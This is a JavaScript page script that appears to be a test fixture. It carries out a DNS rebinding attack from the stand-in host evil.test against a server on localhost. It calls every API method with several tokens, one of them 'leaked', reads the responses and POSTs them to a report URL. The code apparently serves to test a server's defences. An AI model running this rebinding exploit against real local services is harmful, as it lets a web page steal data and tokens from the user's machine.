// DNS rebinding: this page was loaded from http://evil.test:<our port>/ when evil.test
// pointed at the attacker; now evil.test points at 127.0.0.1, so to the browser our server
// is this page's own origin: no CORS, no preflight, every response readable. Only the
// server's own checks stand between this page and the library.
(async () => {
  const { methods, inputs, tokens, reportUrl } = window.ATTACK;
  const attempts = [];
  const reads = [];
  const record = async (label, response) => {
    const body = response.headers.get('content-type')?.includes('text/event-stream') ? '(an open event stream)' : await response.text();
    reads.push({ label, status: response.status, body });
    attempts.push({ label, outcome: `read ${response.status}` });
  };
  const attempt = async (label, url, init) => {
    try {
      await record(label, await fetch(url, init));
    } catch (error) {
      attempts.push({ label, outcome: `blocked (${error.name})` });
    }
  };

  for (const method of [...methods, 'events']) {
    for (const token of tokens) {
      await attempt(`${method} with the ${token.label} token`, `/api/${method}`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${token.value}` },
        body: method === 'events' ? undefined : JSON.stringify(inputs[method] ?? {}),
      });
    }
  }
  await attempt('the page', '/', {});
  await attempt('the page with the leaked token', `/?token=${tokens.find((token) => token.label === 'leaked').value}`, {});

  const source = new EventSource('/api/events');
  const outcome = await new Promise((resolve) => ['open', 'error'].forEach((name) => source.addEventListener(name, () => resolve(name), { once: true })));
  source.close();
  attempts.push({ label: 'EventSource /api/events', outcome });
  if (outcome === 'open') reads.push({ label: 'EventSource', status: 200, body: '(opened)' });

  await fetch(reportUrl, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ attempts, reads, origin: location.origin }) });
})();
